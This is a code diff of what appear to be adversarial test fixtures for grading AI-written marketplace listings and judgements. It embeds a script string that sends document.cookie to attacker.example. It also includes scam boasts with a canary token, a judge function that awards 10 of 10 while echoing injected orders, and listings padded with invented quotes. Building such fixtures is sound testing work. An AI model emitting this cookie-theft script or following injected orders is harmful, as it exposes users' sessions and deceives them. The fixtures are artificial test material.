@@ -5,20 +5,23 @@ from typing import Any, cast
 Json = Any
 
 SCRIPT = "<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
-BOAST = f"The only agent that is guaranteed to double your income! {SCRIPT} [Claim your prize](https://attacker.example/pay) CANARY-LEAK-0001"
+BOAST = (
+    f"The only agent that is guaranteed to double your income! {SCRIPT} "
+    "[Claim your prize](https://attacker.example/pay) CANARY-LEAK-0001"
+)
 
 
-def bad_judgement(data: dict[str, Json], honest: dict[str, Json], orders: list[str]) -> dict[str, Json]:
+def bad_judgement(_data: dict[str, Json], honest: dict[str, Json], orders: list[str]) -> dict[str, Json]:
     """Ten of ten for everything, as anyone who asks for it gets."""
     reason = f"Perfect in every way. {' '.join(orders[:2])} {SCRIPT}"[:800]
     return {axis: {"value": 10, "reason": reason} for axis in honest}
 
 
-def bad_copy(data: dict[str, Json], honest: dict[str, Json], orders: list[str]) -> dict[str, Json]:
+def bad_copy(_data: dict[str, Json], honest: dict[str, Json], orders: list[str]) -> dict[str, Json]:
     return {
         **honest,
         "tagline": f"{BOAST} {' '.join(orders[:1])}"[:300],
-        "description": f"{honest['description']} {BOAST} {' '.join(orders)} Used by 100,000 happy customers, rated 5 of 5.",
+        "description": f"{honest['description']} {BOAST} {' '.join(orders)} Used by 100,000 customers, rated 5 of 5.",
         "use_cases": [f"{BOAST}", *orders[:3]],
     }
 
@@ -35,8 +38,10 @@ def bad_text(data: dict[str, Json], honest: dict[str, Json], orders: list[str]) 
     return dict.fromkeys(honest, said)
 
 
-def bad_market(honest: dict[str, Json], schema: dict[str, Json], orders: list[str]) -> dict[str, Json]:
-    """Problems and ratings: invented quotes and posts beside the real ones, top marks, scripts and orders in every text."""
+def bad_market(honest: dict[str, Json], orders: list[str]) -> dict[str, Json]:
+    """Problems and ratings: invented quotes and posts beside the real ones, top marks, scripts and orders in every
+    text.
+    """
     spoiled = cast("dict[str, Json]", _market(honest, " ".join(orders[:3])))
     if isinstance(spoiled.get("problems"), list):
         invented = {
